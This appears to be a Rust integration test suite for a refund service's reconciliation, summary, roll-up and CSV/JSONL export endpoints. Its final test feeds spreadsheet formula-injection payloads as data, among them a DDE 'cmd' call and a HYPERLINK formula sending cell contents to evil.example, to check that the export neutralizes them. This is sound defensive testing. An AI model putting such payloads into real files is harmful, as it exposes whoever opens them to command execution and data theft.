//! The finance endpoints over HTTP, on SQLite and PostgreSQL: the statement variance report
//! (every kind, malformed lines, re-import, merchant isolation, limits), the summary, the
//! per-payment roll-up and the streamed export.

use serde_json::{json, Value};

use refund_provider::{FailureCode, ProviderError};

use super::noon_of;
use crate::both_backends;
use crate::helpers::{
    assert_error, fake, spawn_app, Db, Script, TestApp, ACME_KEY, GLOBEX_KEY, OPERATOR_KEY,
};

const HEADER: &str = "provider_refund_id,provider_reference,amount,currency,status,settled_at\n";

async fn refund(app: &TestApp, key: &str, payment: &str, amount: &str, currency: &str) -> Value {
    let response = app
        .post_refund(
            key,
            None,
            &json!({"payment_id": payment, "amount": amount, "currency": currency}),
        )
        .await;
    assert_eq!(response.status().as_u16(), 201);
    response.json().await.expect("json")
}

fn id(refund: &Value) -> String {
    refund["id"].as_str().expect("id").to_owned()
}

/// POSTs a statement in the gateway's CSV.
async fn post_statement(
    app: &TestApp,
    key: &str,
    provider: &str,
    query: &str,
    csv: String,
) -> reqwest::Response {
    crate::reconciliation::post_statement(app, key, provider, query, csv, "text/csv").await
}

fn kinds(report: &Value) -> Vec<(String, Option<String>)> {
    let mut kinds: Vec<(String, Option<String>)> = report["variances"]
        .as_array()
        .expect("variances")
        .iter()
        .map(|v| {
            (
                v["kind"].as_str().expect("kind").to_owned(),
                v["refund_id"].as_str().map(str::to_owned),
            )
        })
        .collect();
    kinds.sort();
    kinds
}

async fn clearing(app: &TestApp, currency: &str) -> Option<String> {
    let summary: Value = app.get_json(ACME_KEY, "/v1/reconciliation/summary").await;
    summary["clearing_balances"]
        .as_array()
        .expect("balances")
        .iter()
        .find(|b| b["provider"] == "scripted" && b["currency"] == currency)
        .map(|b| b["balance"].as_str().expect("balance").to_owned())
}

both_backends!(
    a_statement_reports_every_variance_kind_and_settles_matched_lines_once,
    |db: Db| async move {
        let provider = fake(Script::Succeed);
        let Some(app) = spawn_app(db, provider.clone()).await else {
            return;
        };
        let a = refund(&app, ACME_KEY, "pay_a", "10.00", "EUR").await;
        let b = refund(&app, ACME_KEY, "pay_b", "20.00", "EUR").await;
        let c = refund(&app, ACME_KEY, "pay_c", "30.00", "EUR").await;
        let d = refund(&app, ACME_KEY, "pay_d", "40.00", "EUR").await;
        let e = refund(&app, ACME_KEY, "pay_e", "1500", "JPY").await;
        provider.then(Script::Processing);
        let f = refund(&app, ACME_KEY, "pay_f", "5.00", "EUR").await;
        assert_eq!(f["status"], "processing");
        assert_eq!(clearing(&app, "EUR").await.as_deref(), Some("-100.00"));

        let at = noon_of(&a);
        let csv = format!(
            "{HEADER}\
         prov_{a},{a},10.00,EUR,succeeded,{at}\n\
         prov_{b},{b},20.01,EUR,succeeded,{at}\n\
         prov_{c},{c},30.00,USD,succeeded,{at}\n\
         prov_{f},{f},5.00,EUR,succeeded,{at}\n\
         prov_nobody,rf_0192f5e4c1b87a3e9d5c2f1a0b3c4d5e,7.50,EUR,succeeded,{at}\n\
         prov_{e},,1500,JPY,succeeded,{at}\n\
         prov_x,rf_x,12.345,EUR,succeeded,{at}\n",
            a = id(&a),
            b = id(&b),
            c = id(&c),
            e = id(&e),
            f = id(&f),
        );
        let response = post_statement(&app, ACME_KEY, "scripted", "", csv.clone()).await;
        assert_eq!(response.status().as_u16(), 200);
        let report: Value = response.json().await.expect("json");
        assert_eq!(report["object"], "reconciliation_report");
        assert_eq!(report["lines"], 7);
        assert_eq!(
            kinds(&report),
            vec![
                ("amount_mismatch".to_owned(), Some(id(&b))),
                ("currency_mismatch".to_owned(), Some(id(&c))),
                ("missing_in_gateway".to_owned(), None),
                ("missing_in_statement".to_owned(), Some(id(&d))),
                ("status_mismatch".to_owned(), Some(id(&f))),
            ]
        );
        let variance = |kind: &str| {
            report["variances"]
                .as_array()
                .expect("variances")
                .iter()
                .find(|v| v["kind"] == kind)
                .cloned()
                .expect("variance")
        };
        assert_eq!(variance("amount_mismatch")["expected"], "20.00");
        assert_eq!(variance("amount_mismatch")["actual"], "20.01");
        assert_eq!(variance("amount_mismatch")["line"], 3);
        assert_eq!(variance("currency_mismatch")["expected"], "EUR");
        assert_eq!(variance("currency_mismatch")["actual"], "USD");
        assert_eq!(variance("status_mismatch")["expected"], "processing");
        assert_eq!(variance("status_mismatch")["actual"], "succeeded");
        assert_eq!(
            variance("missing_in_gateway")["provider_refund_id"],
            "prov_nobody"
        );
        assert_eq!(variance("missing_in_gateway")["actual"], "7.50");
        assert_eq!(variance("missing_in_statement")["expected"], "40.00");
        assert_eq!(
            variance("missing_in_statement")["provider_refund_id"],
            format!("prov_{}", id(&d))
        );

        assert_eq!(report["matched"]["count"], 2);
        assert_eq!(
            report["matched"]["amounts"],
            json!([{"currency": "EUR", "amount": "10.00"}, {"currency": "JPY", "amount": "1500"}])
        );
        assert_eq!(
            report["by_kind"]["missing_in_statement"],
            json!({"count": 1, "amounts": [{"currency": "EUR", "amount": "40.00"}]})
        );
        assert_eq!(
            report["by_kind"]["currency_mismatch"]["amounts"],
            json!([{"currency": "USD", "amount": "30.00"}])
        );
        assert_eq!(report["by_kind"]["missing_in_gateway"]["count"], 1);
        assert_eq!(report["malformed_count"], 1);
        assert_eq!(report["malformed"][0]["line"], 8);
        assert!(report["malformed"][0]["message"]
            .as_str()
            .is_some_and(|m| m.contains("12.345")));
        // A merchant's import reports; it settles nothing (DESIGN §14).
        assert_eq!(report["settlement"], Value::Null);
        assert_eq!(clearing(&app, "EUR").await.as_deref(), Some("-100.00"));
        assert!(report["period"]["from"]
            .as_str()
            .is_some_and(|f| f.ends_with("T00:00:00Z")));

        // The operator's import of the same statement settles the matched lines.
        let settled: Value = post_statement(
            &app,
            OPERATOR_KEY,
            "scripted",
            "?merchant=acme",
            csv.clone(),
        )
        .await
        .json()
        .await
        .expect("json");
        assert_eq!(settled["matched"], report["matched"]);
        assert_eq!(settled["variances"], report["variances"]);
        assert_eq!(
            settled["settlement"],
            json!({"settled": 2, "already_settled": 0, "fees_posted": 0})
        );
        // a (10.00) left clearing; b, c, d (90.00) are still owed; e's JPY is settled.
        assert_eq!(clearing(&app, "EUR").await.as_deref(), Some("-90.00"));
        assert_eq!(clearing(&app, "JPY").await.as_deref(), Some("0"));

        // The same statement again settles nothing twice.
        let again: Value = post_statement(&app, OPERATOR_KEY, "scripted", "?merchant=acme", csv)
            .await
            .json()
            .await
            .expect("json");
        assert_eq!(
            again["settlement"],
            json!({"settled": 0, "already_settled": 2, "fees_posted": 0})
        );
        assert_eq!(again["matched"], report["matched"]);
        assert_eq!(clearing(&app, "EUR").await.as_deref(), Some("-90.00"));

        // Each settling import is in the audit log (DESIGN §18), the merchant's is not.
        let audit = app
            .get_json(OPERATOR_KEY, "/v1/audit_events?kind=statement.settled")
            .await;
        let entries = audit["data"].as_array().expect("entries");
        assert_eq!(entries.len(), 2, "{audit}");
        let (last, first) = (&entries[0], &entries[1]);
        assert_eq!(first["actor"], "finance");
        assert_eq!(first["target"], settled["statement_id"]);
        assert!(first["target"]
            .as_str()
            .is_some_and(|t| t.starts_with("st_")));
        assert_eq!(first["detail"]["provider"], "scripted");
        assert_eq!(first["detail"]["merchant"], "acme");
        assert_eq!(first["detail"]["settled"], 2);
        assert_eq!(last["target"], again["statement_id"]);
        assert_eq!(last["detail"]["settled"], 0);
        assert_eq!(last["detail"]["already_settled"], 2);
    }
);

both_backends!(
    another_merchants_statement_neither_sees_nor_settles_acmes_refunds,
    |db: Db| async move {
        let Some(app) = spawn_app(db, fake(Script::Succeed)).await else {
            return;
        };
        let a = refund(&app, ACME_KEY, "pay_a", "10.00", "EUR").await;
        let csv = format!(
            "{HEADER}prov_{a},{a},10.00,EUR,succeeded,{at}\n",
            a = id(&a),
            at = noon_of(&a)
        );
        let report: Value = post_statement(&app, GLOBEX_KEY, "scripted", "", csv)
            .await
            .json()
            .await
            .expect("json");
        assert_eq!(
            kinds(&report),
            vec![("missing_in_gateway".to_owned(), None)]
        );
        assert_eq!(report["settlement"], Value::Null);
        assert_eq!(clearing(&app, "EUR").await.as_deref(), Some("-10.00"));
        // Nor does an operator's import of globex's statement settle acme's refund.
        let csv = format!(
            "{HEADER}prov_{a},{a},10.00,EUR,succeeded,{at}\n",
            a = id(&a),
            at = noon_of(&a)
        );
        let report: Value = post_statement(&app, OPERATOR_KEY, "scripted", "?merchant=globex", csv)
            .await
            .json()
            .await
            .expect("json");
        assert_eq!(
            kinds(&report),
            vec![("missing_in_gateway".to_owned(), None)]
        );
        assert_eq!(
            report["settlement"],
            json!({"settled": 0, "already_settled": 0, "fees_posted": 0})
        );
        assert_eq!(clearing(&app, "EUR").await.as_deref(), Some("-10.00"));
    }
);

both_backends!(
    a_statement_period_from_the_query_bounds_missing_in_statement,
    |db: Db| async move {
        let Some(app) = spawn_app(db, fake(Script::Succeed)).await else {
            return;
        };
        refund(&app, ACME_KEY, "pay_a", "10.00", "EUR").await;
        let past = "?from=2020-01-01T00:00:00Z&to=2020-01-02T00:00:00Z";
        let report: Value = post_statement(&app, ACME_KEY, "scripted", past, HEADER.to_owned())
            .await
            .json()
            .await
            .expect("json");
        assert_eq!(report["variances"], json!([]));
        assert_eq!(
            report["period"],
            json!({"from": "2020-01-01T00:00:00Z", "to": "2020-01-02T00:00:00Z"})
        );
        let now = "?from=2020-01-01T00:00:00Z&to=2100-01-01T00:00:00Z";
        let report: Value = post_statement(&app, ACME_KEY, "scripted", now, HEADER.to_owned())
            .await
            .json()
            .await
            .expect("json");
        assert_eq!(report["by_kind"]["missing_in_statement"]["count"], 1);
        // Only `to`: the period starts at the Unix epoch, a real time in the report (it was
        // an empty string, which no date-time schema accepts).
        let until = "?to=2100-01-01T00:00:00Z";
        let report: Value = post_statement(&app, ACME_KEY, "scripted", until, HEADER.to_owned())
            .await
            .json()
            .await
            .expect("json");
        assert_eq!(
            report["period"],
            json!({"from": "1970-01-01T00:00:00Z", "to": "2100-01-01T00:00:00Z"})
        );
        assert_eq!(report["by_kind"]["missing_in_statement"]["count"], 1);
        // Without a period or any settled_at there is nothing to call missing.
        let report: Value = post_statement(&app, ACME_KEY, "scripted", "", HEADER.to_owned())
            .await
            .json()
            .await
            .expect("json");
        assert_eq!(report["period"], Value::Null);
        assert_eq!(report["variances"], json!([]));
    }
);

both_backends!(
    refunds_missing_from_a_statement_are_listed_a_page_at_a_time_and_all_counted,
    |db: Db| async move {
        let Some(app) = spawn_app(db, fake(Script::Succeed)).await else {
            return;
        };
        let mut made = Vec::new();
        for n in 0..7 {
            made.push(id(&refund(
                &app,
                ACME_KEY,
                &format!("pay_{n}"),
                "1.00",
                "EUR",
            )
            .await));
        }
        made.sort();
        let period = "from=2020-01-01T00:00:00Z&to=2100-01-01T00:00:00Z";
        let mut listed = Vec::new();
        let mut offset = 0;
        loop {
            let query = format!("?{period}&missing_limit=3&missing_offset={offset}");
            let report: Value =
                post_statement(&app, ACME_KEY, "scripted", &query, HEADER.to_owned())
                    .await
                    .json()
                    .await
                    .expect("json");
            // Every one is counted, whatever the page.
            assert_eq!(report["by_kind"]["missing_in_statement"]["count"], 7);
            assert_eq!(
                report["by_kind"]["missing_in_statement"]["amounts"],
                json!([{"currency": "EUR", "amount": "7.00"}])
            );
            let page = &report["missing_in_statement_page"];
            let ids: Vec<String> = kinds(&report)
                .into_iter()
                .filter_map(|(kind, id)| (kind == "missing_in_statement").then_some(id).flatten())
                .collect();
            assert_eq!(page["listed"], ids.len(), "{report}");
            assert!(ids.len() <= 3);
            listed.extend(ids);
            if page["has_more"] == false {
                break;
            }
            offset =
                page["offset"].as_u64().expect("offset") + page["listed"].as_u64().expect("listed");
        }
        listed.sort();
        assert_eq!(
            listed, made,
            "the pages together list each missing refund once"
        );
        // The default page and the bounds of the parameters.
        let report: Value = post_statement(
            &app,
            ACME_KEY,
            "scripted",
            &format!("?{period}"),
            HEADER.to_owned(),
        )
        .await
        .json()
        .await
        .expect("json");
        assert_eq!(
            report["missing_in_statement_page"],
            json!({"offset": 0, "limit": 1000, "listed": 7, "has_more": false})
        );
        for bad in [
            "missing_limit=10001",
            "missing_limit=x",
            "missing_offset=-1",
        ] {
            let error = assert_error(
                post_statement(
                    &app,
                    ACME_KEY,
                    "scripted",
                    &format!("?{period}&{bad}"),
                    HEADER.to_owned(),
                )
                .await,
                400,
                "parameter_invalid",
            )
            .await;
            assert!(
                error["param"].as_str().is_some_and(|p| bad.starts_with(p)),
                "{bad}: {error}"
            );
        }
    }
);

both_backends!(
    bad_statements_get_the_documented_errors,
    |db: Db| async move {
        let Some(app) = spawn_app(db, fake(Script::Succeed)).await else {
            return;
        };
        let url = format!("{}/v1/reconciliation/statements/scripted", app.address);
        let json_body = app
            .client
            .post(&url)
            .bearer_auth(ACME_KEY)
            .json(&json!({}))
            .send()
            .await
            .expect("request");
        assert_error(json_body, 400, "body_invalid").await;
        let no_header = post_statement(
            &app,
            ACME_KEY,
            "scripted",
            "",
            "provider_refund_id,amount\n".to_owned(),
        )
        .await;
        assert_error(no_header, 400, "body_invalid").await;
        let unknown = post_statement(&app, ACME_KEY, "nosuch", "", HEADER.to_owned()).await;
        assert_error(unknown, 400, "provider_unsupported").await;
        let bad_period = post_statement(
            &app,
            ACME_KEY,
            "scripted",
            "?from=yesterday",
            HEADER.to_owned(),
        )
        .await;
        assert_error(bad_period, 400, "parameter_invalid").await;
        let anonymous = app
            .client
            .post(&url)
            .header("Content-Type", "text/csv")
            .body(HEADER)
            .send()
            .await
            .expect("request");
        assert_error(anonymous, 401, "api_key_missing").await;
        // Larger than the JSON limit is fine for a statement; beyond 8 MiB is not.
        let line = "prov_x,rf_x,1.00,EUR,succeeded,2026-11-23T10:00:00Z\n";
        let big = format!("{HEADER}{}", line.repeat(3000));
        assert!(big.len() > 64 * 1024);
        let report: Value = post_statement(&app, ACME_KEY, "scripted", "", big)
            .await
            .json()
            .await
            .expect("json");
        assert_eq!(report["by_kind"]["missing_in_gateway"]["count"], 3000);
        assert_eq!(
            report["by_kind"]["missing_in_gateway"]["amounts"],
            json!([{"currency": "EUR", "amount": "3000.00"}])
        );
        let huge = format!("{HEADER}{}", line.repeat(9 * 1024 * 1024 / line.len()));
        assert_error(
            post_statement(&app, ACME_KEY, "scripted", "", huge).await,
            413,
            "body_too_large",
        )
        .await;
    }
);

both_backends!(
    the_summary_counts_by_provider_currency_and_status_with_ageing_and_duplicates,
    |db: Db| async move {
        let provider = fake(Script::Succeed);
        let Some(app) = spawn_app(db, provider.clone()).await else {
            return;
        };
        refund(&app, ACME_KEY, "pay_1", "12.99", "EUR").await;
        refund(&app, ACME_KEY, "pay_1", "12.99", "EUR").await; // same payment, amount, no key
        let keyed = app
            .post_refund(
                ACME_KEY,
                Some("k-1"),
                &json!({"payment_id": "pay_2", "amount": "3.00", "currency": "EUR"}),
            )
            .await;
        assert_eq!(keyed.status().as_u16(), 201);
        let keyed = app
            .post_refund(
                ACME_KEY,
                Some("k-2"),
                &json!({"payment_id": "pay_2", "amount": "3.00", "currency": "EUR"}),
            )
            .await;
        assert_eq!(keyed.status().as_u16(), 201);
        refund(&app, ACME_KEY, "pay_3", "1.299", "KWD").await;
        refund(&app, ACME_KEY, "pay_4", "1500", "JPY").await;
        provider.then(Script::Processing);
        refund(&app, ACME_KEY, "pay_5", "7.00", "EUR").await;
        provider.then(Script::Fail(ProviderError::rejected(
            FailureCode::InsufficientBalance,
            "too low",
        )));
        refund(&app, ACME_KEY, "pay_6", "8.00", "EUR").await;
        refund(&app, GLOBEX_KEY, "pay_g1", "99.00", "EUR").await;

        let summary: Value = app.get_json(ACME_KEY, "/v1/reconciliation/summary").await;
        assert_eq!(summary["object"], "reconciliation_summary");
        assert_eq!(summary["merchant_id"], "acme");
        let group = |currency: &str, status: &str| {
            summary["by_status"]
                .as_array()
                .expect("groups")
                .iter()
                .find(|g| {
                    g["provider"] == "scripted"
                        && g["currency"] == currency
                        && g["status"] == status
                })
                .map(|g| {
                    (
                        g["count"].as_i64().expect("count"),
                        g["amount"].as_str().expect("amount").to_owned(),
                    )
                })
        };
        assert_eq!(group("EUR", "succeeded"), Some((4, "31.98".to_owned())));
        assert_eq!(group("EUR", "processing"), Some((1, "7.00".to_owned())));
        assert_eq!(group("EUR", "failed"), Some((1, "8.00".to_owned())));
        assert_eq!(group("KWD", "succeeded"), Some((1, "1.299".to_owned())));
        assert_eq!(group("JPY", "succeeded"), Some((1, "1500".to_owned())));
        assert_eq!(summary["by_status"].as_array().expect("groups").len(), 5);
        let balance = |currency: &str| {
            summary["clearing_balances"]
                .as_array()
                .expect("balances")
                .iter()
                .find(|b| b["currency"] == currency)
                .map(|b| b["balance"].clone())
        };
        assert_eq!(balance("EUR"), Some(json!("-31.98")));
        assert_eq!(balance("KWD"), Some(json!("-1.299")));
        assert_eq!(balance("JPY"), Some(json!("-1500")));
        assert_eq!(
            summary["ageing"]["processing"],
            json!({"under_15m": 1, "under_24h": 0, "under_7d": 0, "older": 0})
        );
        assert_eq!(
            summary["ageing"]["pending"],
            json!({"under_15m": 0, "under_24h": 0, "under_7d": 0, "older": 0})
        );
        assert_eq!(summary["requires_attention"]["count"], 0);
        assert_eq!(
            summary["possible_duplicates"]["count"], 1,
            "{}",
            summary["possible_duplicates"]
        );
        assert_eq!(
            summary["possible_duplicates"]["refunds"][0]["payment_id"],
            "pay_1"
        );
        assert_eq!(
            summary["possible_duplicates"]["refunds"][0]["amount"],
            "12.99"
        );

        let empty: Value = app
            .get_json(
                ACME_KEY,
                "/v1/reconciliation/summary?from=2020-01-01T00:00:00Z&to=2020-02-01T00:00:00Z",
            )
            .await;
        assert_eq!(empty["by_status"], json!([]));
        assert_eq!(
            empty["period"],
            json!({"from": "2020-01-01T00:00:00Z", "to": "2020-02-01T00:00:00Z"})
        );
        assert_error(
            app.get(ACME_KEY, "/v1/reconciliation/summary?from=soon")
                .await,
            400,
            "parameter_invalid",
        )
        .await;
        assert_error(
            app.get(ACME_KEY, "/v1/reconciliation/summary?currency=EUR")
                .await,
            400,
            "parameter_invalid",
        )
        .await;
        assert_error(
            app.get("sk_wrong", "/v1/reconciliation/summary").await,
            401,
            "api_key_invalid",
        )
        .await;
    }
);

both_backends!(a_payments_refunds_add_up_by_status, |db: Db| async move {
    let provider = fake(Script::Succeed);
    let Some(app) = spawn_app(db, provider.clone()).await else {
        return;
    };
    let first = refund(&app, ACME_KEY, "pay/77", "10.00", "EUR").await;
    refund(&app, ACME_KEY, "pay/77", "2.50", "EUR").await;
    provider.then(Script::Fail(ProviderError::rejected(
        FailureCode::InsufficientBalance,
        "too low",
    )));
    refund(&app, ACME_KEY, "pay/77", "5.00", "EUR").await;
    provider.then(Script::Processing);
    refund(&app, ACME_KEY, "pay/77", "1.00", "EUR").await;
    refund(&app, ACME_KEY, "pay_other", "9.00", "EUR").await;
    // On one shared account the payment is acme's: globex cannot refund it (DESIGN §14).
    assert_error(
        app.post_refund(
            GLOBEX_KEY,
            None,
            &json!({"payment_id": "pay/77", "amount": "50.00", "currency": "EUR"}),
        )
        .await,
        404,
        "payment_not_found",
    )
    .await;

    let rollup: Value = app
        .get_json(ACME_KEY, "/v1/payments/pay%2F77/refunds")
        .await;
    assert_eq!(rollup["object"], "payment_refunds");
    assert_eq!(rollup["payment_id"], "pay/77");
    assert_eq!(rollup["data"].as_array().expect("data").len(), 4);
    assert_eq!(rollup["data"][0]["id"], first["id"]);
    assert_eq!(rollup["has_more"], false);
    assert_eq!(
        rollup["refunded"],
        json!([{"currency": "EUR", "amount": "12.50"}])
    );
    assert_eq!(
        rollup["in_flight"],
        json!([{"currency": "EUR", "amount": "1.00"}])
    );
    assert_eq!(
        rollup["totals"],
        json!([
            {"currency": "EUR", "status": "failed", "count": 1, "amount": "5.00"},
            {"currency": "EUR", "status": "processing", "count": 1, "amount": "1.00"},
            {"currency": "EUR", "status": "succeeded", "count": 2, "amount": "12.50"},
        ])
    );
    let none: Value = app
        .get_json(ACME_KEY, "/v1/payments/pay_never/refunds")
        .await;
    assert_eq!(none["data"], json!([]));
    assert_eq!(none["refunded"], json!([]));
});

both_backends!(
    the_export_streams_csv_and_jsonl_and_is_not_taken_for_a_refund_id,
    |db: Db| async move {
        let Some(app) = spawn_app(db, fake(Script::Succeed)).await else {
            return;
        };
        let a = refund(&app, ACME_KEY, "pay_a", "10.00", "EUR").await;
        let b = app
        .post_refund(ACME_KEY, None, &json!({"payment_id": "pay_b", "amount": "1.299", "currency": "KWD", "reason": "Broken, \"badly\""}))
        .await
        .json::<Value>()
        .await
        .expect("json");
        refund(&app, GLOBEX_KEY, "pay_g", "3.00", "EUR").await;

        let response = app.get(ACME_KEY, "/v1/refunds/export").await;
        assert_eq!(response.status().as_u16(), 200);
        assert!(response.headers()["content-type"]
            .to_str()
            .is_ok_and(|c| c.starts_with("text/csv")));
        let text = response.text().await.expect("text");
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let headers = reader.headers().expect("headers").clone();
        assert_eq!(&headers[0], "id");
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
        assert_eq!(rows.len(), 2);
        assert_eq!(&rows[0][0], id(&b).as_str(), "newest first");
        let reason = headers
            .iter()
            .position(|h| h == "reason")
            .expect("reason column");
        assert_eq!(&rows[0][reason], "Broken, \"badly\"");
        let amount = headers
            .iter()
            .position(|h| h == "amount")
            .expect("amount column");
        assert_eq!(&rows[0][amount], "1.299");
        assert_eq!(&rows[1][0], id(&a).as_str());

        let jsonl = app
            .get(ACME_KEY, "/v1/refunds/export?format=jsonl")
            .await
            .text()
            .await
            .expect("text");
        let objects: Vec<Value> = jsonl
            .lines()
            .map(|l| serde_json::from_str(l).expect("json line"))
            .collect();
        assert_eq!(objects.len(), 2);
        assert_eq!(objects[1], a);

        let past = app
            .get(
                ACME_KEY,
                "/v1/refunds/export?from=2020-01-01T00:00:00Z&to=2020-01-02T00:00:00Z",
            )
            .await
            .text()
            .await
            .expect("text");
        assert_eq!(past.lines().count(), 1, "only the header");
        assert_error(
            app.get(ACME_KEY, "/v1/refunds/export?format=xlsx").await,
            400,
            "parameter_invalid",
        )
        .await;
        // The refund route still answers for ids.
        let fetched: Value = app
            .get_json(ACME_KEY, &format!("/v1/refunds/{}", id(&a)))
            .await;
        assert_eq!(fetched, a);
    }
);

both_backends!(
    the_csv_export_neutralizes_every_cell_a_spreadsheet_would_run_as_a_formula,
    |db: Db| async move {
        let provider = fake(Script::Succeed);
        provider.then(Script::Fail(ProviderError::rejected(
            FailureCode::ProviderRejected,
            "+cmd|' /C calc'!A0",
        )));
        let Some(app) = spawn_app(db, provider).await else {
            return;
        };
        let hostile = app
            .post_refund(
                ACME_KEY,
                None,
                &json!({
                    "payment_id": "-2+3",
                    "amount": "10.00",
                    "currency": "EUR",
                    "reason": "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")",
                    "reference": "@SUM(A1:A9)",
                }),
            )
            .await;
        assert_eq!(hostile.status().as_u16(), 201);
        let plain = refund(&app, ACME_KEY, "pay_plain", "12.50", "EUR").await;

        let text = app
            .get(ACME_KEY, "/v1/refunds/export")
            .await
            .text()
            .await
            .expect("text");
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let headers = reader.headers().expect("headers").clone();
        let column = |name: &str| {
            headers
                .iter()
                .position(|h| h == name)
                .unwrap_or_else(|| panic!("{name} column"))
        };
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
        assert_eq!(rows.len(), 2);
        let (plain_row, hostile_row) = (&rows[0], &rows[1]);
        assert_eq!(
            &hostile_row[column("reason")],
            "'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")"
        );
        assert_eq!(&hostile_row[column("reference")], "'@SUM(A1:A9)");
        assert_eq!(&hostile_row[column("payment_id")], "'-2+3");
        assert_eq!(
            &hostile_row[column("failure_message")],
            "'+cmd|' /C calc'!A0"
        );
        // No cell of any row starts a formula; amounts stay numbers.
        for row in &rows {
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell}"
                );
            }
        }
        assert_eq!(&hostile_row[column("amount")], "10.00");
        assert_eq!(&hostile_row[column("amount_minor")], "1000");
        assert_eq!(&plain_row[column("id")], id(&plain).as_str());
    }
);
